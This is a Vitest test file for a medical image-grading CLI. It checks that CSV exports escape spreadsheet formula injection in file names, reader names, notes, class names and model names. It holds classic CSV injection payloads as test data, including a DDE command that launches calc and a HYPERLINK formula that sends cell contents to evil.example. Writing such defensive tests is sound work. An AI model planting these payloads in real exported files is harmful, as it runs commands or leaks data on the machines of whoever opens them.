import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../src/main/cli/program';
import { originalText } from '../../src/main/export/csv';
import { Store } from '../../src/main/store';
import { writeJpeg } from '../fixtures/images';
import { storeModel } from '../fixtures/stored-model';

/** The classic payloads (OWASP, CSV injection); the ones without a slash can also be file names. */
const FILE_NAME_PAYLOADS = ['=HYPERLINK("javascript:alert(1)";"Click")', '+1+1', '-1+1', '@SUM(1)', '\t=1', '\r=1', "'=1+1"];
const PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A1,"Open")', ...FILE_NAME_PAYLOADS];
/** Class names (the CLI splits --classes at commas, so none here has one). */
const CLASS_PAYLOADS = ['=1+2', '+cmd', '-1+1', '@SUM(A1)'];

/** What a spreadsheet would take for a formula (or a DDE call) at the start of a cell. */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

type Row = Record<string, string>;

describe('CSV exports are safe to open in a spreadsheet', () => {
  let root: string;
  let dataDir: string;

  const cli = async (...args: string[]) => {
    let stdout = '';
    let stderr = '';
    const code = await runCli(['--data', dataDir, ...args], {
      stdout: (text) => void (stdout += text),
      stderr: (text) => void (stderr += text),
      interactive: false,
    });
    expect(stderr.split('\n').filter((line) => line.startsWith('gradedesk:')), args.join(' ')).toEqual([]);
    expect(code, args.join(' ')).toBe(0);
    return stdout;
  };
  const rowsOf = (csv: string) => parse(csv, { columns: true }) as Row[];

  beforeAll(async () => {
    root = await fs.mkdtemp(path.join(os.tmpdir(), 'gradedesk-csv-'));
    dataDir = path.join(root, 'data');
    const folder = path.join(root, 'photos');
    // Each payload is an image's file name, hence also its image name and (no eye suffix) its patient group.
    for (const [index, payload] of FILE_NAME_PAYLOADS.entries()) await writeJpeg(path.join(folder, `${payload}.jpg`), index + 1, 96, 72);
    await cli('project', 'create', 'Hostile');
    await cli('import', folder, '--project', 'Hostile');

    // Every image graded by a reader whose name, and with a note whose text, is a payload.
    const rows = rowsOf(await cli('export', 'labels', '--project', 'Hostile'));
    expect(rows).toHaveLength(FILE_NAME_PAYLOADS.length);
    for (const [index, row] of rows.entries()) {
      const payload = PAYLOADS[index % PAYLOADS.length]!;
      // The store trims reader names, so the payloads led by a tab or a carriage return only reach the notes and file names.
      const reader = payload.trim() === payload ? payload : `${PAYLOADS[0]} ${index}`;
      await cli('grade', row.image_id!, String(index % 5), '--project', 'Hostile', `--reader=${reader}`, `--note=${PAYLOADS[(index + 1) % PAYLOADS.length]}`);
    }
    // A class list of payloads, for the class columns.
    await cli('project', 'create', 'Hostile classes', '--task', 'multiclass', '--classes', CLASS_PAYLOADS.join(','));
    await cli('import', folder, '--project', 'Hostile classes');
    for (const [index, row] of rowsOf(await cli('export', 'labels', '--project', 'Hostile classes')).entries()) {
      await cli('grade', row.image_id!, String(index % CLASS_PAYLOADS.length), '--project', 'Hostile classes', `--reader=${PAYLOADS[0]}`);
    }
    // A model named with a payload has predicted every image of both projects.
    const store = Store.open(dataDir);
    try {
      for (const name of ['Hostile', 'Hostile classes']) {
        const project = store.projects.byName(name);
        const images = store.exports.currentLabels(project.id);
        const classes = project.task.classes.length;
        const modelId = storeModel(store, dataDir, project, PAYLOADS[1]!, 'softmax',
          images.map((image, index) => ({ imageId: image.imageId, output: Array.from({ length: classes }, (_, c) => (c === index % classes ? 0.6 : 0.4 / (classes - 1))), outOfFold: true })));
        store.models.activate(modelId);
      }
    } finally {
      store.close();
    }
  });
  afterAll(() => fs.rm(root, { recursive: true, force: true }));

  /** Every cell of every row: no text cell starts a formula, and the original text comes back from each. */
  const expectNeutralised = (rows: Row[], numericColumns: string[]) => {
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        if (numericColumns.includes(column)) expect(cell, column).toMatch(/^(-?\d+)?$/);
        else expect(cell, `${column}: ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
      }
    }
  };

  it('neutralises the payloads in the image, file, group and reader columns of the current labels, and they can be read back', async () => {
    const out = path.join(root, 'labels.csv');
    const written = JSON.parse(await cli('export', 'labels', '--project', 'Hostile', '--out', out, '--json'));
    const rows = rowsOf(await fs.readFile(out, 'utf8'));
    expect(written.rows).toBe(rows.length);
    expectNeutralised(rows, ['label', 'ungradable', 'image_id']);

    const images = rows.map((row) => originalText(row.image!)).sort();
    expect(images).toEqual([...FILE_NAME_PAYLOADS].sort());
    for (const row of rows) {
      const image = originalText(row.image!);
      expect(originalText(row.file!)).toBe(`${image}.jpg`);
      expect(originalText(row.group!)).toBe(image);
      expect(row.image).toBe(FORMULA_START.test(image) || image.startsWith("'") ? `'${image}` : image);
      expect(PAYLOADS.map((p) => p.trim()).concat(rows.map((_, i) => `${PAYLOADS[0]} ${i}`))).toContain(originalText(row.reader!));
    }
    // A reader named =cmd|' /C calc'!A0 is written so that a spreadsheet shows it as text.
    expect(rows.map((row) => row.reader)).toContain(`'${PAYLOADS[0]}`);
    expect(rows.map((row) => row.group)).toEqual(expect.arrayContaining(["'\t=1", "'\r=1", "'-1+1", "'@SUM(1)"]));
  });

  it('neutralises the reader and note columns of the audit trail, keeping numbers as numbers', async () => {
    const events = rowsOf(await cli('export', 'labels', '--project', 'Hostile', '--with-history'));
    expect(events).toHaveLength(FILE_NAME_PAYLOADS.length);
    expectNeutralised(events, ['image_id', 'event_id', 'previous', 'label']);
    expect(events.map((event) => originalText(event.note!)).sort()).toEqual(
      // The store trims notes as it trims reader names.
      FILE_NAME_PAYLOADS.map((_, index) => PAYLOADS[(index + 1) % PAYLOADS.length]!.trim()).sort(),
    );
    expect(events.map((event) => event.note)).toContain(`'${PAYLOADS[1]}`);
    expect(events.map((event) => event.image)).toEqual(expect.arrayContaining(["'\t=1", "'\r=1", "''=1+1"]));
  });

  it('neutralises every cell, header included, of every CSV export, as recorded and de-identified', async () => {
    // A second reader with a payload for a name, for the per-grader columns (the tests above count one reader).
    const first = rowsOf(await cli('export', 'labels', '--project', 'Hostile'))[0]!;
    await cli('grade', first.image_id!, '1', '--project', 'Hostile', '--reader=@SUM(A1:A9)');
    const exports = [
      ['labels'], ['labels', '--with-history'], ['labels', '--per-grader'], ['predictions'],
      ['submission', '--format', 'aptos'], ['submission', '--format', 'eyepacs', '--from', 'predictions'],
    ];
    let checked = 0;
    for (const project of ['Hostile', 'Hostile classes']) {
      for (const [kind, ...options] of exports) {
        if (project === 'Hostile classes' && kind === 'submission') continue; // DR grades only
        for (const deidentify of [[], ['--deidentify']]) {
          const text = await cli('export', kind!, '--project', project, ...options, ...deidentify);
          const [header, ...rows] = parse(text) as string[][];
          expect(rows.length, `${project} ${kind} ${options.join(' ')}`).toBeGreaterThan(0);
          for (const cell of [...header!, ...rows.flat()]) {
            // A numeric cell is a number; any other starts with none of a formula's characters.
            if (!/^-?\d+(\.\d+)?(e-?\d+)?$/.test(cell)) expect(cell, `${project} ${kind} ${options.join(' ')} ${deidentify.join('')}`).not.toMatch(FORMULA_START);
            checked += 1;
          }
        }
      }
    }
    // The payloads reached the files: reader columns, class columns and the model's name.
    const perGrader = await cli('export', 'labels', '--project', 'Hostile', '--per-grader');
    expect((parse(perGrader, { to_line: 1 }) as string[][])[0]).toContain('reader:@SUM(A1:A9)');
    const predictions = await cli('export', 'predictions', '--project', 'Hostile classes');
    expect((parse(predictions, { to_line: 1 }) as string[][])[0]).toEqual(expect.arrayContaining(CLASS_PAYLOADS.map((name) => `p_${name}`)));
    expect(rowsOf(predictions).map((row) => row.model_name)).toContain(`'${PAYLOADS[1]}`);
    expect(rowsOf(predictions).map((row) => row.predicted_name)).toEqual(expect.arrayContaining(["'=1+2", "'+cmd", "'-1+1", "'@SUM(A1)"]));
    expect(checked).toBeGreaterThan(500);
  });

  it('are all written by toCsv: no other source file writes CSV with csv-stringify', async () => {
    const sources = (await fs.readdir(path.resolve('src'), { recursive: true })).filter((file) => /\.(ts|svelte)$/.test(file));
    const writers: string[] = [];
    for (const file of sources) if ((await fs.readFile(path.resolve('src', file), 'utf8')).includes('csv-stringify')) writers.push(file);
    expect(writers).toEqual([path.join('main', 'export', 'csv.ts')]);
  });
});
